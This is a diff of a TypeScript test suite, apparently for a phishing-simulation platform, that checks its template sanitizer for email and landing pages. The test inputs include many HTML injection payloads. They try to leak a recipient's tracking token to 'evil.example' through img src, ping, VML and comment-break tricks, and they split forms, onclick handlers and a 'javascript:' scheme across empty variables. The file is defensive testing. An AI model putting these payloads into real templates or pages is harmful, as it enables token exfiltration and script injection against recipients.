@@ -7,7 +7,20 @@ import { makeOrganization } from '../../../test/make-organization.ts';
 import { startSink, type Sink } from '../../../test/sink.ts';
 import { startServer, type TestServer } from '../../../test/start-server.ts';
 import { asSystem } from '../../db/database.ts';
-import { hasStrayLink, hasStrayLinks, withoutStrayInHtml, withoutStrayLinks } from './commands/take-out-stray-links.ts';
+import { readHtml } from './commands/read-html.ts';
+import { fillLetter, hasStrayLink, hasStrayLinks, readLetter } from './commands/read-letter.ts';
+
+const nobody = {
+  first_name: '',
+  last_name: '',
+  middle_name: '',
+  position: '',
+  department: '',
+  email: '',
+  organization: '',
+  date: '',
+  link: 'TOKEN',
+};
 
 describe('security 16: the link of a letter', () => {
   test.each([
@@ -27,36 +40,88 @@ describe('security 16: the link of a letter', () => {
     '<!--[if mso]><v:rect href="https://evil.example/?u={{link}}"><![endif]-->',
     '<a href="{{link}}" ping="https://evil.example/?u={{link}}">x</a>',
     '<a {{link}}>x</a>',
+    '<a href="&#123;{link}}">x</a><img src="https://evil.example/?t={{link}}">',
+    '<p>https://evil.example/?t=({{link}})</p>',
+    '<p>https://evil.example/?t=(<x>{{link}}</x>)</p>',
+    '<p><{{middle_name}}img src="https://evil.example/?t=\'{{link}}\'"></p>',
+    '<!-- --{{middle_name}}> <img src="https://evil.example/?t=\'{{link}}\'"> -->',
+    "<!--[if mso]><a title='{{link}}' href=https://evil.example/?t={{link}}>x</a><![endif]-->",
+    '<svg><style>&lt;img src="https://evil.example/?t={{link}}"></style></svg>',
+    '<template><img src="https://evil.example/?t={{link}}"></template>',
+    '<a href="{{link}}@evil.example">x</a>',
+    '<p>{{link}}@evil.example</p>',
   ])('has no place in %s', (html) => {
     expect(hasStrayLink(html)).toBe(true);
-    const filled = withoutStrayInHtml(html).replaceAll('{{link}}', 'TOKEN');
+    const filled = readHtml(html).fillWith(nobody);
     expect(filled).not.toMatch(/evil\.example[^<>"]*TOKEN|value="TOKEN|>TOKEN<\/textarea|<a TOKEN/i);
   });
 
   test.each([
     '<a href="{{link}}">Open</a>',
     '<a href={{ link }} title="Go: {{link}}">Open</a>',
-    '<a href="{{link}}?from=mail">{{link}}</a>',
+    '<a href=" {{link}} ">{{link}}</a>.',
     '<p>Ссылка:{{link}} (<b>{{ link }}</b>)</p>',
     '<!--[if mso]><v:roundrect href="{{link}}" style="x"><![endif]--><a href="{{link}}">x</a>',
     '<p>Nothing here</p><br><hr>',
   ])('stays in %s', (html) => {
     expect(hasStrayLink(html)).toBe(false);
-    expect(withoutStrayInHtml(html)).toBe(html.replaceAll('{{ link }}', '{{link}}'));
+    const filled = html.replaceAll(/\{\{ ?link ?\}\}/g, 'TOKEN').replace('href=TOKEN', 'href="TOKEN"');
+    expect(readHtml(html).fillWith(nobody)).toBe(
+      html.startsWith('<!--')
+        ? filled.replace(/(?<=<!\[endif\]-->)(.*)$/, '<html><head></head><body>$1</body></html>')
+        : `<html><head></head><body>${filled}</body></html>`,
+    );
   });
 
   test('is astray in plain text within another address alone', () => {
     const letter = { sender_name: '', sender_address: '', subject: '', html: '', attachments: [] };
-    const keptOf = (text: string) => withoutStrayLinks({ ...letter, text }).text;
+    const keptOf = (text: string) => fillLetter(readLetter({ ...letter, text }), { ...nobody, link: 'LINK' }).text;
     for (const text of ['Откройте: {{link}}', '{{link}}', '<{{ link }}>', 'Go:{{link}}\n({{link}})']) {
       expect(hasStrayLinks({ ...letter, text })).toBe(false);
-      expect(keptOf(text)).toBe(text);
+      expect(keptOf(text)).toBe(text.replaceAll(/\{\{ ?link ?\}\}/g, 'LINK'));
     }
-    expect(keptOf('https://evil.example/?u={{ link }} {{link}}')).toBe('https://evil.example/?u= {{link}}');
+    expect(keptOf('https://evil.example/?u={{ link }} {{link}}')).toBe('https://evil.example/?u= LINK');
+    expect(keptOf('https://evil.example/?u=({{link}})')).toBe('https://evil.example/?u=()');
     expect(
       hasStrayLinks({ ...letter, text: 'x', attachments: [{ name: 'a', type: 'text/html', content: '<i x="{{link}}">' }] }),
     ).toBe(true);
   });
+});
+
+test.each([
+  ['a form in two halves', '<form{{middle_name}}><inp{{middle_name}}ut name="x">', /<form>|<input/],
+  ['a tag after a sign', '<{{middle_name}}form><{{middle_name}}input name="x">', /<form|<input/],
+  ['an attribute', '<p on{{middle_name}}click="x">y</p>', / onclick/],
+  ['a handler', '<p onclick="{{middle_name}}">y</p>', /onclick=""/],
+  ['a page in a page', '<p srcdoc="<{{middle_name}}b>">y</p>', /<b>/],
+  ['an end of a style', '<style>p{}</sty{{middle_name}}le><b>x</b></style>', /<\/style><b>/],
+  ['an end of a comment', '<!-- --{{middle_name}}><b>x</b> -->', /--><b>/],
+  ['a scheme', '<a href="java{{middle_name}}script:alert(1)">x</a>', /javascript:/],
+])('security 33: a variable that is empty makes no markup: %s', (_what, html, made) => {
+  expect(html.replaceAll('{{middle_name}}', '')).toMatch(made);
+  expect(readHtml(html).fillWith(nobody)).not.toMatch(made);
+});
+
+test('the words around a variable, in texts, attributes and comments, are filled and escaped', () => {
+  const values = { ...nobody, first_name: `<b>&"'` };
+  const html = '<p title="{{first_name}}">{{ first_name }}</p><!--[if mso]><v:x alt="{{first_name}}">{{first_name}}<![endif]-->';
+  const name = '&#60;b&#62;&#38;&#34;&#39;';
+  expect(readHtml(html).fillWith(values)).toContain(
+    `<p title="${name}">${name}</p><!--[if mso]><v:x alt="${name}">${name}<![endif]-->`,
+  );
+});
+
+test('a letter keeps the name of its kind, by which mail programs lay it out', () => {
+  const doctype =
+    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">';
+  expect(readHtml(`${doctype}<p>x</p>`).fillWith(nobody)).toBe(`${doctype}<html><head></head><body><p>x</p></body></html>`);
+});
+
+test('security 33: a template is read in a moment, whatever it holds', () => {
+  const started = performance.now();
+  for (const part of ['{{link}}', '(', '({{link}})', 'a:', '<b>', '<!--{{link}}', '<a href="{{link}}">'])
+    readHtml(part.repeat(100_000 / part.length));
+  expect(performance.now() - started).toBeLessThan(10_000);
 });
 
 let server: TestServer;
@@ -78,6 +143,23 @@ test('no letter and no page of the library puts its link astray', async () => {
   }));
   for (const email of emails) expect(hasStrayLinks(email as never), email.name).toBe(false);
   for (const page of pages) expect(hasStrayLink(page.html), page.name).toBe(false);
+});
+
+test('security 33: the form of a landing page posts and its fields have no names, whatever its variables leave', async () => {
+  const home = await makeOrganization(server);
+  const { token } = home.people.operator;
+  const id = await makeTemplate(server, home);
+  const { body } = await server.call(templates.getTemplate, { params: { id }, token });
+  const html = '<form{{middle_name}}><inp{{middle_name}}ut name="password"></form{{middle_name}}><p>{{first_name}}</p>';
+  await server.call(templates.changePage, { params: { id: body.pages[0]!.id }, token, body: { html } });
+  const campaign = await launch(server, home, { templates: [id] });
+  const [first] = await until(
+    () => deliveriesOf(server, campaign.id),
+    (rows) => rows.every(({ state }) => state === 'sent'),
+  );
+  const landing = (await hit(server, `/l/${tokenOf(server, first!.id)}`)).body;
+  expect(landing).not.toMatch(/<form>|<input/);
+  expect(landing).not.toContain('{{first_name}}');
 });
 
 test('security 16: a template that would tell a stranger the token is refused, and one kept from before tells nobody', async () => {
